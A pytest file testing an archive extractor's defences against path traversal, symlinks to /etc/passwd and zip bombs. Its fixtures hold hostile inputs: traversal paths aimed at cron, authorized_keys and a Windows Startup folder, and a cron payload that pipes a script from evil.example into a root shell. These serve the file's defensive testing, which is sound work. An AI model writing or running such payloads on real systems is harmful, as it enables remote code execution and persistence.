import io
import tarfile
import zipfile

import pytest

from mcp_unzip_safe.extract import Limits, Unsafe, extract

BAD = ["../../etc/cron.d/job", "/var/.ssh/authorized_keys", "..\\..\\Startup\\run.bat", "C:/x", "a/../../b"]


@pytest.mark.parametrize("name", BAD)
def test_names(tmp_path, name):
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as z:
        z.writestr(name, "* * * * * root curl https://evil.example/x | sh")
    with pytest.raises(Unsafe):
        extract(tmp_path / "a.zip", tmp_path / "out")


def test_link(tmp_path):
    with tarfile.open(tmp_path / "a.tar", "w") as t:
        i = tarfile.TarInfo("link")
        i.type, i.linkname = tarfile.SYMTYPE, "/etc/passwd"
        t.addfile(i)
    with pytest.raises(Unsafe):
        extract(tmp_path / "a.tar", tmp_path / "out")


def test_bomb(tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zero", bytes(3_000_000))
    with pytest.raises(Unsafe):
        extract(tmp_path / "a.zip", tmp_path / "out", Limits(total=1_000_000))
